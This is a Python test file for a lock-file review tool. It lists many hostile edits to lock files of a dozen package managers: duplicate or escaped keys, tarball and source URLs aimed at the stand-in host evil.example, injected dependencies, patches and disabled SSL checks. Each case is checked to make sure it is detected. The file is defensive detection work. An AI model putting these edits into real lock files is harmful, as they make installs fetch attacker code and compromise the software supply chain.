"""What a package manager reads in a lock file beside an honest update, and people hardly see: none of it is plain."""

import json

import pytest

from agents.review.checks.locks.comparison import compare
from tests.unit.checks import test_locks as honest

EVIL = "https://evil.example/left.tgz"
HONEST = {f"{path} {base[:6].strip()}".split(" {")[0]: (path, base, head) for path, base, head in honest.UPDATES[:12]}
NPM, CARGO, YARN, BERRY, PNPM, GO, POETRY, UV, PIPFILE, COMPOSER, GEMFILE, NUGET = HONEST

# Case → the format, and what takes the place of what in the honest update.
NPM_LEFT = '"node_modules/left": {'
PNPM_LEFT = "integrity: sha512-c=}"
GEM_REMOTE = "  remote: https://gems.example/\n"
SNAPSHOT = "snapshots:\n\n  left@1.1.0: {}"
HOSTILE = {
    "npm: a key twice": (
        NPM,
        f'"{honest.REGISTRY}/left-1.1.0.tgz",',
        f'"{honest.REGISTRY}/left-1.1.0.tgz","resolved":"{EVIL}",',
    ),
    "npm: a key twice, escaped": (NPM, '"sha512-b="', f'"sha512-b=", "\\u0072esolved": "{EVIL}"'),
    "npm: a package twice": (
        NPM,
        NPM_LEFT,
        f'"node_modules/left": {{"version": "9.0.0", "resolved": "{EVIL}"}}, {NPM_LEFT}',
    ),
    "npm: programs": (NPM, NPM_LEFT, f'{NPM_LEFT} "bin": {{"node": "evil.js"}},'),
    "npm: left out here": (NPM, NPM_LEFT, f'{NPM_LEFT} "os": ["aix"],'),
    "npm: an engine of the bundle": (NPM, NPM_LEFT, f'{NPM_LEFT} "bundleDependencies": ["evil"],'),
    "npm: asks for an address": (NPM, NPM_LEFT, f'{NPM_LEFT} "dependencies": {{"right": "{EVIL}"}},'),
    "npm: asks for another one by an alias": (NPM, NPM_LEFT, f'{NPM_LEFT} "dependencies": {{"right": "npm:evil@1"}},'),
    "npm: asks for what is not in the file": (NPM, NPM_LEFT, f'{NPM_LEFT} "dependencies": {{"evil": "^1.0.0"}},'),
    "npm: the project asks for it": (NPM, '"name": "app"', '"name": "app", "dependencies": {"evil": "^1.0.0"}'),
    "npm: a folder of the project": (NPM, NPM_LEFT, f'"xnode_modules/left": {{"resolved": "{EVIL}"}}, {NPM_LEFT}'),
    "npm: a link": (NPM, NPM_LEFT, f'"node_modules/a": {{"resolved": "tests/evil", "link": true}}, {NPM_LEFT}'),
    "yarn: 3 spaces": (YARN, "  integrity", f'   resolved "{EVIL}"\n  integrity'),
    "yarn: a tab": (YARN, "  integrity", f'\tresolved "{EVIL}"\n  integrity'),
    "yarn: escaped": (YARN, "  integrity", f'  "r\\u0065solved" "{EVIL}"\n  integrity'),
    "yarn: a key twice": (YARN, "  integrity", f'  resolved "{EVIL}"\n  integrity'),
    "yarn: a key with a colon": (YARN, "  integrity", f'  resolved: "{EVIL}"\n  integrity'),
    "yarn: a package twice": (YARN, '"@a/left@^1":', '"@a/left@^1", "@a/left@^1":'),
    "yarn: another end of a line": (YARN, "  integrity", f'  version "1.1.0"\r  resolved "{EVIL}"\n  integrity'),
    "yarn: other sources": (YARN, "  integrity", "  registry evil\n  integrity"),
    "yarn: a request for another one": (YARN, "sha512-b=\n", 'sha512-b=\n  dependencies:\n    evil "^1.0.0"\n'),
    "yarn: a request for an address": (YARN, "sha512-b=\n", f'sha512-b=\n  dependencies:\n    "@a/left" "{EVIL}"\n'),
    "yarn: read as the other version": (
        YARN,
        "# yarn lockfile v1\n",
        "# yarn lockfile v1\n__metadata:\n  version: 8\n",
    ),
    "Berry: a reference": (BERRY, "  checksum: 10c0/bb", f'  checksum: &a 10c0/bb\n  "resolution": "left@{EVIL}"'),
    "Berry: a name in other letters": (
        BERRY,
        "left@npm:1.1.0",
        "left@npm:1.1.0::%5F%5FarchiveUrl=https%3A%2F%2Fevil.example%2Fa",
    ),
    "Berry: a merge": (BERRY, "  checksum: 10c0/bb", f'  <<: {{resolution: "left@{EVIL}"}}\n  checksum: 10c0/bb'),
    "Berry: a tag": (BERRY, "  version: 1.1.0", "  version: !!str 1.1.0"),
    "Berry: a package twice": (BERRY, '"left@npm:^1.0.0":', '"left@npm:^1.0.0,left@npm:^1.0.0":'),
    "Berry: another document": (BERRY, "linkType: soft\n", 'linkType: soft\n---\n"a@npm:1":\n  version: 1\n'),
    "Berry: read as version 1": (BERRY, "__metadata:", "# yarn lockfile v1\n__metadata:"),
    "Berry: programs": (BERRY, "  checksum", "  bin:\n    node: evil.js\n  checksum"),
    "Berry: left out here": (BERRY, "  checksum", "  conditions: os=aix\n  checksum"),
    "Berry: a key of many lines": (BERRY, "  checksum", f'  ? resolution\n  : "left@{EVIL}"\n  checksum'),
    "Berry: a request for an address": (BERRY, "  checksum", f'  dependencies:\n    left: "{EVIL}"\n  checksum'),
    "pnpm: a key twice": (PNPM, PNPM_LEFT, "integrity: sha512-c=, 'integrity': sha512-x=}"),
    "pnpm: a reference": (PNPM, PNPM_LEFT, f"integrity: sha512-c=, tarball: &a {EVIL}}}"),
    "pnpm: escaped": (PNPM, PNPM_LEFT, f'integrity: sha512-c=, "t\\x61rball": {EVIL}}}'),
    "pnpm: a tag": (PNPM, PNPM_LEFT, f"integrity: sha512-c=, tarball: !!str {EVIL}}}"),
    "pnpm: many lines": (PNPM, PNPM_LEFT, f"integrity: sha512-c=,\n      tarball:\n        {EVIL}}}"),
    "pnpm: a mapping in a mapping": (
        PNPM,
        "    engines: {node: '>=6'}",
        f"    engines: {{node: '>=6'}}\n    resolution: {{tarball: {EVIL}}}",
    ),
    "pnpm: a section twice": (
        PNPM,
        "snapshots:",
        f"'packages':\n  left@1.1.0:\n    resolution: {{tarball: {EVIL}}}\nsnapshots:",
    ),
    "pnpm: a patch": (
        PNPM,
        "packages:\n",
        "patchedDependencies:\n  left@1.1.0:\n    hash: x\n    path: evil.patch\n\npackages:\n",
    ),
    "pnpm: the project asks for an address": (PNPM, "version: 1.1.0", f"version: {EVIL}"),
    "pnpm: another package under a name": (
        PNPM,
        SNAPSHOT,
        f"{SNAPSHOT[:-3]}\n    dependencies:\n      b: '@a/right@2.0.0'",
    ),
    "pnpm: a package of no entry": (PNPM, SNAPSHOT, f"{SNAPSHOT}\n  evil@1.0.0: {{}}"),
    "pnpm: programs": (PNPM, "    engines", "    hasBin: true\n    engines"),
    "pnpm: another document": (PNPM, "lockfileVersion", "---\na: b\n---\nlockfileVersion"),
    "go: a hash twice": (GO, "v1.1.0 h1:cc=\n", "v1.1.0 h1:cc=\nexample.org/left v1.1.0 h1:evil=\n"),
    "go: a tab": (GO, "example.org/left v1.1.0 h1:cc=", "example.org/left\tv1.1.0 h1:cc="),
    "go: another end of a line": (GO, "h1:cc=\n", "h1:cc=\x0bexample.org/evil v1.0.0 h1:x=\n"),
    "go: a comment": (GO, "h1:cc=\n", "h1:cc= // h1:x=\n"),
    "go: another hash": (GO, "v1.1.0 h1:cc=", "v1.1.0 h2:cc="),
    "go: an empty line": (GO, "h1:cc=\n", "h1:cc=\n\n"),
    "poetry: a key twice": (POETRY, 'name = "left"', 'name = "left"\n"name" = "evil"'),
    "poetry: an address of a file": (
        POETRY,
        '{file = "left-1.1.0.tar.gz"',
        f'{{url = "{EVIL}", file = "left-1.1.0.tar.gz"',
    ),
    "poetry: a source": (POETRY, "[metadata]", f'[package.source]\ntype = "legacy"\nurl = "{EVIL}"\n\n[metadata]'),
    "poetry: a source, dotted": (
        POETRY,
        "optional = false",
        f'optional = false\nsource.type = "url"\nsource.url = "{EVIL}"',
    ),
    "poetry: asks for an address": (
        POETRY,
        "[metadata]",
        f'[package.dependencies]\nleft = {{url = "{EVIL}"}}\n\n[metadata]',
    ),
    "poetry: asks for what is not there": (POETRY, "[metadata]", '[package.dependencies]\nevil = "*"\n\n[metadata]'),
    "poetry: left out here": (POETRY, "optional = false", "optional = false\nmarkers = \"os_name == 'x'\""),
    "poetry: is installed from a folder": (POETRY, "optional = false", "optional = false\ndevelop = true"),
    "uv: an address without a host": (UV, "https://files.example", "https:/files.example"),
    "uv: a key twice": (UV, 'version = "1.1.0"', 'version = "1.1.0"\n"version" = "9.0.0"'),
    "uv: a file of the project": (
        UV,
        '{ url = "https://files.example/left-1.1.0-py3',
        '{ path = "tests/evil.whl", url = "https://files.example/left-1.1.0-py3',
    ),
    "uv: two sources": (UV, 'example/simple" }', f'example/simple", url = "{EVIL}" }}'),
    "uv: asks for an address": (
        UV,
        "sdist",
        f'dependencies = [{{ name = "left", source = {{ url = "{EVIL}" }} }}]\nsdist',
    ),
    "uv: asks for what is not there": (UV, "sdist", 'dependencies = [{ name = "evil" }]\nsdist'),
    "uv: an option": (UV, "[[package]]", f'[options]\nindex = "{EVIL}"\n\n[[package]]'),
    "uv: what the project asks for": (
        UV,
        "[[package]]",
        f'[manifest]\nrequirements = [{{ name = "left", url = "{EVIL}" }}]\n\n[[package]]',
    ),
    "Cargo: a key twice": (CARGO, 'name = "left"', 'name = "left"\n"name" = "evil"'),
    "Cargo: a package in place of it": (CARGO, 'checksum = "bb"', 'checksum = "bb"\nreplace = "evil 1.0.0"'),
    "Cargo: asks for what is not there": (CARGO, 'checksum = "bb"', 'checksum = "bb"\ndependencies = ["evil"]'),
    "Cargo: a patch": (
        CARGO,
        "version = 3\n",
        f'version = 3\n\n[[patch.unused]]\nname = "left"\nversion = "1.1.0"\nsource = "git+{EVIL}#a"\n',
    ),
    "Cargo: other rules": (CARGO, "version = 3\n", "version = 4\n"),
    "Cargo: a source of git, escaped": (
        CARGO,
        '"registry+https://index.example/crates"',
        f'"\\u0067it+{EVIL}#{"a" * 40}"',
    ),
    "pipenv: a key twice": (PIPFILE, '"version": "==1.1.0"', '"version": "==1.1.0", "version": "==9.0.0"'),
    "pipenv: another index": (PIPFILE, '"index": "main"', '"index": "evil"'),
    "pipenv: nothing is verified": (PIPFILE, '"verify_ssl": true', '"verify_ssl": false'),
    "pipenv: extras": (PIPFILE, '"index": "main"', '"index": "main", "extras": ["evil"]'),
    "pipenv: a folder": (PIPFILE, '"version": "==1.1.0"', '"version": "==1.1.0", "path": "./evil", "editable": true'),
    "composer: a key twice": (
        COMPOSER,
        '"type": "library"',
        f'"type": "library", "dist": {{"type": "zip", "url": "{EVIL}"}}',
    ),
    "composer: escaped": (
        COMPOSER,
        '"type": "library"',
        f'"type": "library", "d\\u0069st": {{"type": "zip", "url": "{EVIL}"}}',
    ),
    "composer: an alias": (
        COMPOSER,
        '"packages-dev": []',
        '"packages-dev": [], "aliases": [{"package": "a/left", "version": "9", "alias": "1"}]',
    ),
    "composer: less stable": (COMPOSER, '"packages-dev": []', '"packages-dev": [], "minimum-stability": "dev"'),
    "composer: a plugin": (COMPOSER, '"type": "library"', '"type": "composer-plugin"'),
    "composer: a section twice": (COMPOSER, '"packages-dev": []', '"packages-dev": [], "packages": []'),
    "bundler: another end of a line": (GEMFILE, GEM_REMOTE, f"{GEM_REMOTE}  remote: {EVIL}\r"),
    "bundler: 3 spaces": (GEMFILE, GEM_REMOTE, f"{GEM_REMOTE}   remote: {EVIL}\n"),
    "bundler: two spaces after the colon": (GEMFILE, GEM_REMOTE, f"{GEM_REMOTE}  remote:  {EVIL}\n"),
    "bundler: another section": (
        GEMFILE,
        "PLATFORMS",
        f"PLUGIN SOURCE\n  remote: {EVIL}\n  specs:\n    left (1.1.0)\n\nPLATFORMS",
    ),
    "bundler: a section within another": (
        GEMFILE,
        "PLATFORMS",
        f"GIT\n  remote: {EVIL}\n  revision: a\n  specs:\n    left (1.1.0)\nPLATFORMS",
    ),
    "bundler: a source of nothing": (GEMFILE, "PLATFORMS", f"GEM\n  remote: {EVIL}\n  specs:\n\nPLATFORMS"),
    "bundler: a package twice": (GEMFILE, "    right", "    left (1.1.0)\n    right"),
    "bundler: asks for what is not there": (GEMFILE, "      right (~> 2)\n", "      right (~> 2)\n      evil\n"),
    "bundler: from another source": (GEMFILE, "DEPENDENCIES\n  left", "DEPENDENCIES\n  left!"),
    "bundler: the version of itself": (GEMFILE, "CHECKSUMS", "BUNDLED WITH\n   0.0.1.evil\n\nCHECKSUMS"),
    "NuGet: a key twice": (NUGET, '"resolved": "1.1.0"', '"resolved": "1.1.0", "resolved": "9.0.0"'),
    "NuGet: a project": (NUGET, '"Direct"', '"Project"'),
    "NuGet: a project, beside": (NUGET, '"net8.0": {', '"net8.0": {"evil": {"type": "Project"},'),
    "NuGet: another kind": (NUGET, '"Direct"', '"Evil"'),
    "NuGet: other rules": (NUGET, '"version": 1', '"version": 2'),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_is_hidden_beside_an_update_is_not_plain(case: str) -> None:
    kind, part, hidden = HOSTILE[case]
    path, base, head = HONEST[kind]
    assert compare(path, base, head).is_plain
    assert part in head
    hostile = head.replace(part, hidden, 1)
    assert not compare(path, base, hostile).is_plain
    if path.endswith(".json") or path == "composer.lock":  # spaces say nothing there: the same, as the tool writes it
        assert not compare(path, base, json.dumps(json.loads(hostile), indent=2)).is_plain or "twice" in case


def test_a_comment_of_requirements_ends_with_its_line() -> None:
    """Whatever is its last character: what follows is asked for."""
    found = compare("requirements.txt", "left==1.0.0\n", f"left==1.1.0\n# see docs \\\nevil @ {EVIL}\n")
    assert [each.rule for each in found.faults] == ["other-host"]
    joined = compare("requirements.txt", "left==1.0.0\n", "left==1.1.0 \\\n# and\nright==1.0.0\n")
    assert joined.added == (("left", "1.1.0"), ("right", "1.0.0"))
